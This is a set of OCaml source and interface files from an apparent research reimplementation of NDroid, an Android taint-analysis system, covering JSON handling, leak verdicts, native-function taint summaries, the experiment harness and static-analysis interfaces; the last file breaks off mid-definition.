      Buffer.add_string buf (String.make (2 * pad) ' ')
    end
  in
  match j with
  | Null -> Buffer.add_string buf "null"
  | Bool b -> Buffer.add_string buf (if b then "true" else "false")
  | Int n -> Buffer.add_string buf (string_of_int n)
  | Float f -> Buffer.add_string buf (float_repr f)
  | Str s ->
    Buffer.add_char buf '"';
    Buffer.add_string buf (escape s);
    Buffer.add_char buf '"'
  | List [] -> Buffer.add_string buf "[]"
  | List items ->
    Buffer.add_char buf '[';
    List.iteri
      (fun i item ->
        if i > 0 then Buffer.add_char buf ',';
        nl (level + 1);
        write ~indent ~level:(level + 1) buf item)
      items;
    nl level;
    Buffer.add_char buf ']'
  | Obj [] -> Buffer.add_string buf "{}"
  | Obj fields ->
    Buffer.add_char buf '{';
    List.iteri
      (fun i (k, v) ->
        if i > 0 then Buffer.add_char buf ',';
        nl (level + 1);
        Buffer.add_char buf '"';
        Buffer.add_string buf (escape k);
        Buffer.add_string buf (if indent then "\": " else "\":");
        write ~indent ~level:(level + 1) buf v)
      (sort_fields fields);
    nl level;
    Buffer.add_char buf '}'

let to_string j =
  let buf = Buffer.create 256 in
  write ~indent:false ~level:0 buf j;
  Buffer.contents buf

let to_string_hum j =
  let buf = Buffer.create 256 in
  write ~indent:true ~level:0 buf j;
  Buffer.add_char buf '\n';
  Buffer.contents buf

(* ---- parser ---- *)

exception Parse_error of int * string

let of_string s =
  let n = String.length s in
  let pos = ref 0 in
  let fail msg = raise (Parse_error (!pos, msg)) in
  let peek () = if !pos < n then Some s.[!pos] else None in
  let advance () = incr pos in
  let rec skip_ws () =
    match peek () with
    | Some (' ' | '\t' | '\n' | '\r') ->
      advance ();
      skip_ws ()
    | _ -> ()
  in
  let expect c =
    match peek () with
    | Some c' when c' = c -> advance ()
    | _ -> fail (Printf.sprintf "expected %C" c)
  in
  let literal word value =
    let l = String.length word in
    if !pos + l <= n && String.sub s !pos l = word then begin
      pos := !pos + l;
      value
    end
    else fail (Printf.sprintf "expected %s" word)
  in
  let parse_string () =
    expect '"';
    let buf = Buffer.create 16 in
    let rec loop () =
      match peek () with
      | None -> fail "unterminated string"
      | Some '"' -> advance ()
      | Some '\\' -> (
        advance ();
        match peek () with
        | Some '"' -> Buffer.add_char buf '"'; advance (); loop ()
        | Some '\\' -> Buffer.add_char buf '\\'; advance (); loop ()
        | Some '/' -> Buffer.add_char buf '/'; advance (); loop ()
        | Some 'n' -> Buffer.add_char buf '\n'; advance (); loop ()
        | Some 'r' -> Buffer.add_char buf '\r'; advance (); loop ()
        | Some 't' -> Buffer.add_char buf '\t'; advance (); loop ()
        | Some 'b' -> Buffer.add_char buf '\b'; advance (); loop ()
        | Some 'f' -> Buffer.add_char buf '\012'; advance (); loop ()
        | Some 'u' ->
          advance ();
          if !pos + 4 > n then fail "truncated \\u escape";
          let hex = String.sub s !pos 4 in
          let code =
            try int_of_string ("0x" ^ hex) with _ -> fail "bad \\u escape"
          in
          pos := !pos + 4;
          (* we only ever emit \u00xx for control bytes *)
          if code < 256 then Buffer.add_char buf (Char.chr code)
          else fail "unsupported \\u escape above 0xff";
          loop ()
        | _ -> fail "bad escape")
      | Some c ->
        Buffer.add_char buf c;
        advance ();
        loop ()
    in
    loop ();
    Buffer.contents buf
  in
  let parse_number () =
    let start = !pos in
    let is_num_char = function
      | '0' .. '9' | '-' | '+' | '.' | 'e' | 'E' -> true
      | _ -> false
    in
    while (match peek () with Some c -> is_num_char c | None -> false) do
      advance ()
    done;
    let text = String.sub s start (!pos - start) in
    if text = "" then fail "expected number"
    else
      match int_of_string_opt text with
      | Some i -> Int i
      | None -> (
        match float_of_string_opt text with
        | Some f -> Float f
        | None -> fail (Printf.sprintf "bad number %S" text))
  in
  let rec parse_value () =
    skip_ws ();
    match peek () with
    | None -> fail "unexpected end of input"
    | Some '"' -> Str (parse_string ())
    | Some 't' -> literal "true" (Bool true)
    | Some 'f' -> literal "false" (Bool false)
    | Some 'n' -> literal "null" Null
    | Some '[' ->
      advance ();
      skip_ws ();
      if peek () = Some ']' then begin
        advance ();
        List []
      end
      else begin
        let items = ref [ parse_value () ] in
        skip_ws ();
        while peek () = Some ',' do
          advance ();
          items := parse_value () :: !items;
          skip_ws ()
        done;
        expect ']';
        List (List.rev !items)
      end
    | Some '{' ->
      advance ();
      skip_ws ();
      if peek () = Some '}' then begin
        advance ();
        Obj []
      end
      else begin
        let field () =
          skip_ws ();
          let k = parse_string () in
          skip_ws ();
          expect ':';
          let v = parse_value () in
          (k, v)
        in
        let fields = ref [ field () ] in
        skip_ws ();
        while peek () = Some ',' do
          advance ();
          fields := field () :: !fields;
          skip_ws ()
        done;
        expect '}';
        Obj (List.rev !fields)
      end
    | Some _ -> parse_number ()
  in
  match
    let v = parse_value () in
    skip_ws ();
    if !pos <> n then fail "trailing bytes after document";
    v
  with
  | v -> Ok v
  | exception Parse_error (at, msg) ->
    Error (Printf.sprintf "JSON parse error at byte %d: %s" at msg)

(* ---- decoding helpers ---- *)

let member key = function
  | Obj fields -> List.assoc_opt key fields
  | _ -> None

let str = function Str s -> Some s | _ -> None
let int = function Int i -> Some i | _ -> None
let bool = function Bool b -> Some b | _ -> None
let list = function List l -> Some l | _ -> None
