type t =
  | Clean
  | Flagged of Flow.t list
  | Crashed of string
  | Timeout

(* Key-equal duplicates collapse to one flow, keeping the one with the
   richest provenance chain — merging static and dynamic verdicts must
   not drop the dynamic flow's hops. *)
let dedup_prefer_hops flows =
  let rec go = function
    | a :: b :: rest when Flow.equal a b ->
      let keep =
        if List.length a.Flow.f_hops >= List.length b.Flow.f_hops then a else b
      in
      go (keep :: rest)
    | a :: rest -> a :: go rest
    | [] -> []
  in
  go (List.stable_sort Flow.compare flows)

let normalize = function
  | Flagged [] -> Clean
  | Flagged flows -> Flagged (dedup_prefer_hops flows)
  | v -> v

let flagged v = match normalize v with Flagged _ -> true | _ -> false
let flows v = match normalize v with Flagged fs -> fs | _ -> []

let equal a b =
  match (normalize a, normalize b) with
  | Clean, Clean | Timeout, Timeout -> true
  | Crashed a, Crashed b -> String.equal a b
  | Flagged a, Flagged b -> List.equal Flow.equal a b
  | _ -> false

let pp ppf v =
  match normalize v with
  | Clean -> Format.fprintf ppf "clean"
  | Timeout -> Format.fprintf ppf "timeout"
  | Crashed why -> Format.fprintf ppf "crashed (%s)" why
  | Flagged flows ->
    Format.fprintf ppf "FLAGGED (%d flow%s)" (List.length flows)
      (if List.length flows = 1 then "" else "s");
    List.iter (fun f -> Format.fprintf ppf "@.  flow: %a" Flow.pp f) flows

let to_json v =
  match normalize v with
  | Clean -> Json.Obj [ ("verdict", Json.Str "clean") ]
  | Timeout -> Json.Obj [ ("verdict", Json.Str "timeout") ]
  | Crashed why ->
    Json.Obj [ ("verdict", Json.Str "crashed"); ("reason", Json.Str why) ]
  | Flagged flows ->
    Json.Obj
      [ ("verdict", Json.Str "flagged");
        ("flows", Json.List (List.map Flow.to_json flows)) ]

let ( let* ) = Result.bind

let of_json j =
  match Option.bind (Json.member "verdict" j) Json.str with
  | None -> Error "verdict object is missing a \"verdict\" tag"
  | Some "clean" -> Ok Clean
  | Some "timeout" -> Ok Timeout
  | Some "crashed" ->
    let why =
      Option.value ~default:""
        (Option.bind (Json.member "reason" j) Json.str)
    in
    Ok (Crashed why)
  | Some "flagged" -> (
    match Option.bind (Json.member "flows" j) Json.list with
    | None -> Error "flagged verdict is missing its \"flows\" array"
    | Some items ->
      let* flows =
        List.fold_left
          (fun acc item ->
            let* acc = acc in
            let* f = Flow.of_json item in
            Ok (f :: acc))
          (Ok []) items
      in
      Ok (normalize (Flagged (List.rev flows))))
  | Some other -> Error (Printf.sprintf "unknown verdict tag %S" other)

(* ---- per-app reports ---- *)

type report = {
  r_app : string;
  r_analysis : string;
  r_verdict : t;
  r_meta : (string * Json.t) list;
}

let sorted_meta m = List.sort (fun (a, _) (b, _) -> String.compare a b) m

let report_equal a b =
  String.equal a.r_app b.r_app
  && String.equal a.r_analysis b.r_analysis
  && equal a.r_verdict b.r_verdict
  && sorted_meta a.r_meta = sorted_meta b.r_meta

let pp_report ppf r =
  Format.fprintf ppf "%s [%s]: %a@." r.r_app r.r_analysis pp r.r_verdict;
  List.iter
    (fun (k, v) ->
      Format.fprintf ppf "  %-18s %s@." (k ^ ":") (Json.to_string v))
    (sorted_meta r.r_meta)

let report_to_json r =
  Json.Obj
    [ ("app", Json.Str r.r_app);
      ("analysis", Json.Str r.r_analysis);
      ("result", to_json r.r_verdict);
      ("meta", Json.Obj r.r_meta) ]

let report_of_json j =
  let field name =
    match Option.bind (Json.member name j) Json.str with
    | Some s -> Ok s
    | None -> Error (Printf.sprintf "report is missing field %S" name)
  in
  let* app = field "app" in
  let* analysis = field "analysis" in
  let* verdict =
    match Json.member "result" j with
    | Some v -> of_json v
    | None -> Error "report is missing its \"result\" object"
  in
  let meta =
    match Json.member "meta" j with Some (Json.Obj fields) -> fields | _ -> []
  in
  Ok { r_app = app; r_analysis = analysis; r_verdict = verdict; r_meta = meta }

let reports_to_json rs = Json.List (List.map report_to_json rs)

let reports_of_json = function
  | Json.List items ->
    let* reports =
      List.fold_left
        (fun acc item ->
          let* acc = acc in
          let* r = report_of_json item in
          Ok (r :: acc))
        (Ok []) items
    in
    Ok (List.rev reports)
  | _ -> Error "expected a JSON array of reports"
