module Insn = Ndroid_arm.Insn
module Cpu = Ndroid_arm.Cpu
module Memory = Ndroid_arm.Memory
module Exec = Ndroid_arm.Exec
module Asm = Ndroid_arm.Asm
module Taint = Ndroid_taint.Taint
module Taint_engine = Ndroid_emulator.Taint_engine
module Superblock = Ndroid_emulator.Superblock
module Layout = Ndroid_emulator.Layout
module Json = Ndroid_report.Json

(* Per-exported-function native taint summaries.

   A summary records, per library function, either [Exact] — the function
   is a straight-line, unconditional, register-only computation whose taint
   effect is a fused Table V transfer over entry-register taints and whose
   value effect can be replayed on a scratch CPU — or [Emulate reason]: the
   body has data-dependent control flow, memory traffic, stack discipline,
   or upcalls, and the JNI bridge must run it under the emulator as before.

   Summaries are derived once per library image, keyed by a digest of its
   bytes, and survive across runs through a pluggable persistence hook (the
   pipeline's result cache).  A runtime write into the library's image
   marks the whole library dirty, after which every summary in it is
   rejected and calls fall back to emulation (self-modifying / decrypting
   native code). *)

type verdict =
  | Exact
  | Emulate of string  (* why the body must be emulated *)

type fn = {
  f_name : string;
  f_addr : int;  (* entry address, interworking bit stripped *)
  f_len : int;  (* decoded instructions, terminal return included *)
  f_verdict : verdict;
  f_masks : (int * int) array;  (* (rd, entry dependence mask); Exact only *)
  f_body : (int * Insn.t * int) array;
      (* (addr, insn, size), terminal return excluded; Exact only *)
}

type lib = {
  l_digest : string;
  l_mode : Cpu.mode;
  l_base : int;
  l_limit : int;
  l_fns : (int, fn) Hashtbl.t;  (* keyed by entry address *)
  mutable l_dirty : bool;  (* image written at runtime: reject everything *)
}

let digest_of prog =
  Digest.to_hex
    (Digest.string
       (Printf.sprintf "%d:%s:%s" (Asm.base prog)
          (match Asm.mode prog with Cpu.Arm -> "arm" | Cpu.Thumb -> "thumb")
          (Bytes.to_string (Asm.code prog))))

let max_body = 64

(* ---- exactness classification ---- *)

let is_return = function
  | Insn.Bx { cond = Insn.AL; link = false; rm = 14 } -> true
  | _ -> false

(* Reject any touch of r13-r15: stack discipline and PC-relative reads
   would need the real machine context the summary replay doesn't have. *)
let banned_reg r = r >= 13

let op2_banned = function
  | Insn.Imm _ -> false
  | Insn.Reg r | Insn.Reg_shift_imm (r, _, _) -> banned_reg r
  | Insn.Reg_shift_reg (r, _, s) -> banned_reg r || banned_reg s

let classify insn =
  if Insn.cond_of insn <> Insn.AL then Error "conditional execution"
  else
    match insn with
    | Insn.Dp { op; rd; rn; op2; _ } ->
      if
        (not (Insn.is_test_op op)) && banned_reg rd
        || ((not (Insn.is_move_op op)) && banned_reg rn)
        || op2_banned op2
      then Error "r13-r15 access"
      else Ok ()
    | Insn.Mul { rd; rm; rs; _ } ->
      if banned_reg rd || banned_reg rm || banned_reg rs then
        Error "r13-r15 access"
      else Ok ()
    | Insn.Mla { rd; rm; rs; rn; _ } ->
      if banned_reg rd || banned_reg rm || banned_reg rs || banned_reg rn then
        Error "r13-r15 access"
      else Ok ()
    | Insn.Mull { rdlo; rdhi; rm; rs; _ } ->
      if banned_reg rdlo || banned_reg rdhi || banned_reg rm || banned_reg rs
      then Error "r13-r15 access"
      else Ok ()
    | Insn.Clz { rd; rm; _ } ->
      if banned_reg rd || banned_reg rm then Error "r13-r15 access"
      else Ok ()
    | Insn.Mem _ | Insn.Block _ | Insn.Vmem _ -> Error "memory access"
    | Insn.Vdp _ | Insn.Vmov_core _ | Insn.Vcvt _ | Insn.Vcvt_int _ ->
      Error "vfp"
    | Insn.B _ | Insn.Bx _ | Insn.Svc _ -> Error "control flow"

let emulate name addr len reason =
  { f_name = name; f_addr = addr; f_len = len; f_verdict = Emulate reason;
    f_masks = [||]; f_body = [||] }

(* Decode from the entry point and classify.  The only accepted terminal is
   a plain [bx lr]; any other block-ender (branches — including upcalls
   back into libdvm —, PC writes, SVC) means the control flow is not a
   straight line and the body must be emulated. *)
let summarize cpu mem ~name addr =
  let rev = ref [] in
  let count = ref 0 in
  let pos = ref addr in
  let result = ref None in
  while !result = None do
    if !count >= max_body then result := Some (Error "body too long")
    else
      match Exec.fetch_decode cpu mem !pos with
      | exception Exec.Undefined _ -> result := Some (Error "undecodable")
      | insn, size ->
        incr count;
        if is_return insn then result := Some (Ok ())
        else if Superblock.ends_block insn then
          result := Some (Error "control flow")
        else begin
          (match classify insn with
           | Ok () -> rev := (!pos, insn, size) :: !rev
           | Error reason -> result := Some (Error reason));
          pos := !pos + size
        end
  done;
  match !result with
  | Some (Error reason) -> emulate name addr !count reason
  | None -> assert false
  | Some (Ok ()) -> (
    let body = Array.of_list (List.rev !rev) in
    match Superblock.fuse (Array.map (fun (_, i, _) -> i) body) with
    | None ->
      (* classify accepted it, so fusion must too; belt and braces *)
      emulate name addr !count "unfusable"
    | Some masks ->
      { f_name = name; f_addr = addr; f_len = !count; f_verdict = Exact;
        f_masks = masks; f_body = body })

(* ---- derivation ---- *)

let derive mem prog =
  let cpu = Cpu.create () in
  cpu.Cpu.mode <- Asm.mode prog;
  let fns = Hashtbl.create 16 in
  List.iter
    (fun (name, _) ->
      let addr = Asm.fn_addr prog name land lnot 1 in
      if not (Hashtbl.mem fns addr) then
        Hashtbl.replace fns addr (summarize cpu mem ~name addr))
    (Asm.symbols prog);
  { l_digest = digest_of prog;
    l_mode = Asm.mode prog;
    l_base = Asm.base prog;
    l_limit = Asm.base prog + Asm.size prog - 1;
    l_fns = fns;
    l_dirty = false }

let find l addr = Hashtbl.find_opt l.l_fns (addr land lnot 1)
let mark_dirty l = l.l_dirty <- true
let dirty l = l.l_dirty
let owns l addr = addr >= l.l_base && addr <= l.l_limit

let exact_count l =
  Hashtbl.fold
    (fun _ f acc -> match f.f_verdict with Exact -> acc + 1 | _ -> acc)
    l.l_fns 0

(* ---- application ---- *)

(* Replay the body's value effect on a scratch CPU: r0-r3 seeded from the
   marshaled slots, r4-r12 and flags from the live CPU (exactly the state
   the emulated path's call_native would enter with), LR = the return
   sentinel.  The body is register-only, so passing the real guest memory
   is safe — it is never touched. *)
let eval fn ~cpu ~mem ~slots =
  let c = Cpu.create () in
  Array.blit cpu.Cpu.regs 0 c.Cpu.regs 0 16;
  (* through Cpu.set_reg, so values normalize to u32 exactly as the
     call bridge's own register seeding does *)
  Array.iteri (fun i (v, _) -> if i < 4 then Cpu.set_reg c i v) slots;
  c.Cpu.regs.(14) <- Layout.return_sentinel;
  c.Cpu.n <- cpu.Cpu.n;
  c.Cpu.z <- cpu.Cpu.z;
  c.Cpu.c <- cpu.Cpu.c;
  c.Cpu.v <- cpu.Cpu.v;
  c.Cpu.mode <- cpu.Cpu.mode;
  let run = Exec.run_create () in
  Array.iter
    (fun (a, insn, size) -> Exec.step_into run c mem ~addr:a insn size)
    fn.f_body;
  (Cpu.reg c 0, Cpu.reg c 1)

(* Write the summary's taint effect into the engine: each (rd, mask) pair's
   post-taint is the union of the *entry* taints the mask names — the same
   state the emulated body would leave behind (shadow registers are not
   restored on return). *)
let apply_masks engine pairs =
  let entry = Array.init 16 (fun r -> Taint_engine.reg engine r) in
  Array.iter
    (fun (rd, mask) ->
      let tag = ref Taint.clear in
      for r = 0 to 15 do
        if mask land (1 lsl r) <> 0 then tag := Taint.union !tag entry.(r)
      done;
      Taint_engine.set_reg engine rd !tag)
    pairs

(* ---- persistence (digest-keyed, via the pipeline result cache) ---- *)

let load_hook : (string -> string option) ref = ref (fun _ -> None)
let save_hook : (string -> string -> unit) ref = ref (fun _ _ -> ())

let set_persistence ~load ~save =
  load_hook := load;
  save_hook := save

let verdict_to_json = function
  | Exact -> Json.Str "exact"
  | Emulate reason -> Json.Obj [ ("emulate", Json.Str reason) ]

let verdict_of_json = function
  | Json.Str "exact" -> Some Exact
  | Json.Obj _ as o -> (
    match Json.member "emulate" o with
    | Some (Json.Str reason) -> Some (Emulate reason)
    | _ -> None)
  | _ -> None

let fn_to_json f =
  Json.Obj
    [ ("name", Json.Str f.f_name);
      ("addr", Json.Int f.f_addr);
      ("len", Json.Int f.f_len);
      ("verdict", verdict_to_json f.f_verdict) ]

let to_json l =
  let fns = Hashtbl.fold (fun _ f acc -> f :: acc) l.l_fns [] in
  let fns = List.sort (fun a b -> compare a.f_addr b.f_addr) fns in
  Json.Obj
    [ ("digest", Json.Str l.l_digest);
      ("fns", Json.List (List.map fn_to_json fns)) ]

(* The codec stores metadata only: instruction arrays and masks are
   re-derived by decoding the (digest-verified) image, which cannot
   disagree with a fresh derivation. *)
let of_json mem prog j =
  let open Json in
  match (member "digest" j, member "fns" j) with
  | Some (Str digest), Some (List fns) when digest = digest_of prog -> (
    let cpu = Cpu.create () in
    cpu.Cpu.mode <- Asm.mode prog;
    let tbl = Hashtbl.create 16 in
    let ok = ref true in
    List.iter
      (fun fj ->
        match (member "name" fj, member "addr" fj, member "verdict" fj) with
        | Some (Str name), Some (Int addr), Some vj -> (
          match verdict_of_json vj with
          | Some (Emulate reason) ->
            let len =
              match member "len" fj with Some (Int n) -> n | _ -> 0
            in
            Hashtbl.replace tbl addr (emulate name addr len reason)
          | Some Exact ->
            (* rebuild body + masks from the image itself *)
            Hashtbl.replace tbl addr (summarize cpu mem ~name addr)
          | None -> ok := false)
        | _ -> ok := false)
      fns;
    if not !ok then None
    else
      Some
        { l_digest = digest;
          l_mode = Asm.mode prog;
          l_base = Asm.base prog;
          l_limit = Asm.base prog + Asm.size prog - 1;
          l_fns = tbl;
          l_dirty = false })
  | _ -> None

let derive_cached mem prog =
  let digest = digest_of prog in
  match !load_hook digest with
  | Some payload -> (
    match Json.of_string payload with
    | Ok j -> (
      match of_json mem prog j with
      | Some l -> l
      | None -> derive mem prog)
    | Error _ -> derive mem prog)
  | None ->
    let l = derive mem prog in
    !save_hook digest (Json.to_string (to_json l));
    l
