(** Per-exported-function native taint summaries.

    Derived once per library image (digest-keyed, persisted through a
    pluggable cache hook), a summary classifies each exported function as
    [Exact] — straight-line, unconditional, register-only, so the JNI
    bridge can apply its fused taint transfer and replay its value effect
    without emulating the body — or [Emulate reason], in which case the
    bridge falls back to full emulation.  Runtime writes into the library
    image mark it dirty and reject all of its summaries (self-modifying /
    decrypting native code). *)

type verdict =
  | Exact
  | Emulate of string  (** human-readable reason the body must be emulated *)

type fn = {
  f_name : string;
  f_addr : int;  (** entry address, interworking bit stripped *)
  f_len : int;  (** decoded instructions, terminal return included *)
  f_verdict : verdict;
  f_masks : (int * int) array;
      (** (rd, entry-register dependence mask); [Exact] only *)
  f_body : (int * Ndroid_arm.Insn.t * int) array;
      (** (addr, insn, size), terminal return excluded; [Exact] only *)
}

type lib

val digest_of : Ndroid_arm.Asm.program -> string
(** Hex digest of (base, mode, code bytes) — the persistence key. *)

val derive : Ndroid_arm.Memory.t -> Ndroid_arm.Asm.program -> lib
(** Summarize every exported symbol of a loaded image. *)

val derive_cached : Ndroid_arm.Memory.t -> Ndroid_arm.Asm.program -> lib
(** Like {!derive}, but consult the persistence hooks first and save on a
    miss.  A digest mismatch or undecodable payload falls back to a fresh
    derivation. *)

val find : lib -> int -> fn option
(** Look up by entry address (interworking bit ignored). *)

val mark_dirty : lib -> unit
val dirty : lib -> bool

val owns : lib -> int -> bool
(** Does this address fall inside the summarized image? *)

val exact_count : lib -> int

val eval : fn -> cpu:Ndroid_arm.Cpu.t -> mem:Ndroid_arm.Memory.t ->
  slots:(int * Ndroid_taint.Taint.t) array -> int * int
(** Replay an [Exact] body's value effect: r0-r3 seeded from the marshaled
    slots, r4-r12 and flags from the live CPU, returning (r0, r1) — exactly
    what emulating the body would produce. *)

val apply_masks : Ndroid_emulator.Taint_engine.t -> (int * int) array -> unit
(** Write the summary's taint effect into the shadow registers: each
    (rd, mask) pair's post-taint is the union of the entry taints the mask
    names. *)

val set_persistence :
  load:(string -> string option) -> save:(string -> string -> unit) -> unit
(** Install digest-keyed persistence (the pipeline wires this to its result
    cache).  Set-once at startup; defaults to no persistence. *)

val to_json : lib -> Ndroid_report.Json.t
val of_json :
  Ndroid_arm.Memory.t -> Ndroid_arm.Asm.program -> Ndroid_report.Json.t ->
  lib option
(** Metadata-only codec: [Exact] bodies and masks are re-derived from the
    (digest-verified) image on load. *)
