module Device = Ndroid_runtime.Device
module Vm = Ndroid_dalvik.Vm
module Dvalue = Ndroid_dalvik.Dvalue
module Taint = Ndroid_taint.Taint
module Ndroid = Ndroid_core.Ndroid
module Droidscope = Ndroid_core.Droidscope
module Flow_log = Ndroid_core.Flow_log
module Taintdroid = Ndroid_taintdroid.Taintdroid
module A = Ndroid_android

type mode = Vanilla | Taintdroid_only | Droidscope_mode | Ndroid_full

let mode_name = function
  | Vanilla -> "vanilla"
  | Taintdroid_only -> "TaintDroid"
  | Droidscope_mode -> "DroidScope"
  | Ndroid_full -> "NDroid"

type app = {
  app_name : string;
  app_case : string;
  description : string;
  classes : Ndroid_dalvik.Classes.class_def list;
  build_libs : (string -> int option) -> (string * Ndroid_arm.Asm.program) list;
  entry : string * string;
  expected_sink : string;
}

type outcome = {
  mode : mode;
  detected : bool;
  leaks : A.Sink_monitor.leak list;
  flow_log : string list;
  stats : Ndroid.stats option;
  transmissions : A.Network.transmission list;
  file_writes : A.Filesystem.write_record list;
  device : Device.t;
  analysis : Ndroid.t option;
}

let host_resolver device name =
  match Device.Machine.host_fn_addr (Device.machine device) name with
  | addr -> Some addr
  | exception Not_found -> None

let boot app =
  let device = Device.create () in
  Device.install_classes device app.classes;
  List.iter
    (fun (name, prog) ->
      Device.provide_library device name prog;
      Device.load_library device name)
    (app.build_libs (host_resolver device));
  device

let contains_substring = Flow_log.contains

let run ?obs ?(superblocks = false) ?(summaries = false) ?focus mode app =
  let device = boot app in
  let ndroid =
    match mode with
    | Vanilla ->
      Taintdroid.vanilla device;
      None
    | Taintdroid_only ->
      ignore (Taintdroid.attach device);
      None
    | Droidscope_mode ->
      ignore (Droidscope.attach device);
      None
    | Ndroid_full ->
      Some
        (Ndroid.attach ~use_superblocks:superblocks ~use_summaries:summaries
           ?obs ?focus device)
  in
  let cls, entry = app.entry in
  (try ignore (Device.run device cls entry [||])
   with Vm.Java_throw _ -> () (* app crashed; analysis results still stand *));
  let leaks = A.Sink_monitor.leaks (Device.monitor device) in
  let detected =
    List.exists
      (fun l ->
        Taint.is_tainted l.A.Sink_monitor.taint
        && contains_substring l.A.Sink_monitor.sink app.expected_sink)
      leaks
  in
  { mode;
    detected;
    leaks;
    flow_log =
      (match ndroid with Some n -> Flow_log.entries (Ndroid.log n) | None -> []);
    stats = (match ndroid with Some n -> Some (Ndroid.stats n) | None -> None);
    transmissions = A.Network.transmissions (Device.net device);
    file_writes = A.Filesystem.writes (Device.fs device);
    device;
    analysis = ndroid }

let detection_row app =
  List.map
    (fun mode -> (mode, (run mode app).detected))
    [ Vanilla; Taintdroid_only; Droidscope_mode; Ndroid_full ]
