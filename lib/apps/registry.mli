(** The canonical registry of bundled scenario apps — every Table-I case,
    case study, polymorphic variant, Sec.-VI batch app, the control-flow
    evasion app and the input-gated demo, deduplicated by name.  The CLI,
    the experiment harness and the analysis pipeline all resolve app names
    against this one list. *)

val all : Harness.app list
val names : string list
val find : string -> Harness.app option

val find_exn : string -> Harness.app
(** @raise Invalid_argument with the known names when absent. *)
