(** Running a scenario app under each analysis configuration.

    One app, four configurations — Vanilla (no analysis, the Fig. 10
    baseline), TaintDroid only, DroidScope mode, full NDroid — on a fresh
    device each time, reporting what leaked and what was detected.  This is
    the mechanism behind experiment E3 (the Table I detection matrix) and
    the case studies E4-E7. *)

module Device = Ndroid_runtime.Device
module Vm = Ndroid_dalvik.Vm

type mode = Vanilla | Taintdroid_only | Droidscope_mode | Ndroid_full

val mode_name : mode -> string

(** A packaged scenario app. *)
type app = {
  app_name : string;
  app_case : string;  (** Table I case label, e.g. "case 1'" *)
  description : string;
  classes : Ndroid_dalvik.Classes.class_def list;
  build_libs : (string -> int option) -> (string * Ndroid_arm.Asm.program) list;
      (** built lazily: assembly happens against the fixed layout *)
  entry : string * string;  (** class, method *)
  expected_sink : string;  (** substring the leak's sink name must contain *)
}

type outcome = {
  mode : mode;
  detected : bool;  (** a tainted leak was reported at the expected sink *)
  leaks : Ndroid_android.Sink_monitor.leak list;
  flow_log : string list;  (** NDroid's log, [] in other modes *)
  stats : Ndroid_core.Ndroid.stats option;
  transmissions : Ndroid_android.Network.transmission list;
  file_writes : Ndroid_android.Filesystem.write_record list;
  device : Device.t;
  analysis : Ndroid_core.Ndroid.t option;
      (** the attached NDroid instance in [Ndroid_full] mode *)
}

val boot : app -> Device.t
(** Fresh device with the app's classes installed and libraries provided
    (loaded eagerly so every mode starts equal). *)

val run :
  ?obs:Ndroid_obs.Ring.t ->
  ?superblocks:bool ->
  ?summaries:bool ->
  ?focus:Ndroid_report.Focus.t ->
  mode ->
  app ->
  outcome
(** Boot, attach the mode's analysis, invoke the entry point (catching any
    escaping Java exception), collect results.  [obs] (Ndroid mode only)
    supplies the observability hub the analysis records into;
    [superblocks] and [summaries] (default [false], Ndroid mode only)
    enable superblock native execution and the summary JNI fast path;
    [focus] (Ndroid mode only) gates instrumentation to the static slice's
    focus set — the hybrid pipeline's focused dynamic run. *)

val detection_row : app -> (mode * bool) list
(** The app's row of the Table I matrix: detection under every mode. *)
