(* One canonical list of every bundled scenario app.  The CLI, the bench
   harness and the pipeline used to each rebuild (and slightly disagree
   about) this list; they all share this one now. *)

let all : Harness.app list =
  Cases.all @ Case_studies.all @ Polymorphic.variants @ Sec6_batch.apps
  @ [ Evasion.app; Monkey.gated_app.Monkey.app ]
  |> List.fold_left
       (fun acc a ->
         if List.exists (fun b -> b.Harness.app_name = a.Harness.app_name) acc
         then acc
         else a :: acc)
       []
  |> List.rev

let names = List.map (fun a -> a.Harness.app_name) all

let find name =
  List.find_opt (fun a -> a.Harness.app_name = name) all

let find_exn name =
  match find name with
  | Some app -> app
  | None ->
    invalid_arg
      (Printf.sprintf "unknown app %S; try one of: %s" name
         (String.concat ", " names))
