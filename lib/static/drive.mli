(** Glue between the static analyzer and packaged scenario apps.

    A {!Ndroid_apps.Harness.app} builds its native libraries against a
    live device's extern resolver; this module boots a throwaway device
    to fix the layout, builds the inverse host-function map (address →
    name), and hands the analyzer exactly the artifacts the dynamic runs
    see — so the E3 cross-tabulation compares the two analyses over
    identical inputs. *)

val input_of_app : Ndroid_apps.Harness.app -> Analyzer.input
val verdict_of_app : Ndroid_apps.Harness.app -> Analyzer.verdict
