(** Flow-sensitive abstract taint interpretation of Dalvik bytecode.

    A worklist pass over each method's {!Dex_cfg}, with one abstract taint
    per register plus the interpreter's result register, a per-path
    control taint (implicit flows through tainted comparisons and
    switches), and monotone summaries for fields, arrays and the pending
    exception.  Interprocedural edges follow the {!Callgraph}: app
    bytecode methods are analyzed transitively (memoized per argument
    taint), catalogued framework sources return their tag, catalogued
    sinks report a {!Flow.t}, and [native] methods cross the JNI boundary
    through the supplied callback — the supergraph's Java→native edge. *)

module Taint = Ndroid_taint.Taint

type ctx

val make :
  cg:Callgraph.t ->
  record:(Flow.t -> unit) ->
  native_call:(Ndroid_dalvik.Classes.method_def -> Taint.t list ->
               ctrl:Taint.t -> Taint.t) ->
  ctx

val analyze_method :
  ctx -> Ndroid_dalvik.Classes.method_def -> Taint.t list -> Taint.t
(** Analyze one method with the given parameter taints (parameters land
    in the highest registers, as in the interpreter); returns the joined
    taint of all returned values. *)

val reset_memo : ctx -> unit
(** Clear per-round memoization (the analyzer calls this between outer
    fixpoint rounds, since heap summaries may have grown). *)

val changed : ctx -> bool
val clear_changed : ctx -> unit
(** Did any monotone summary (field/array/exception) grow since the last
    {!clear_changed}? *)

val loads_library : ctx -> bool
val native_site_visits : ctx -> int
(** How many times analysis crossed a Java→native call site. *)

val short_sink_name : string -> string -> string
(** ["Ljava/net/Socket;" "send" → "Socket.send"] — the dynamic sink
    monitors' naming, so static and dynamic verdicts align. *)

val source_tag : string -> string -> Taint.t option
(** The catalogued source tag of a [(class, method)] call, if any. *)

val is_sink : string -> string -> bool
val is_load_call : string -> string -> bool
(** The invoke classification {!Xir_build} mirrors when lowering. *)
