(* The unified cross-language IR: one def-use graph spanning both sides of
   the JNI boundary.  Java-side nodes come from the dex CFG's reaching
   definitions, native-side nodes are exported functions with the Table-V
   abstract facts the analyzer observed, and crossing nodes stitch the two
   together in both directions (Java->native calls with their AAPCS arg
   mapping, native->Java Call*Method upcalls).  The slicer walks this graph
   to localize where dynamic effort is needed. *)

type node =
  | Method of string * string  (* Dalvik method entry: class, name *)
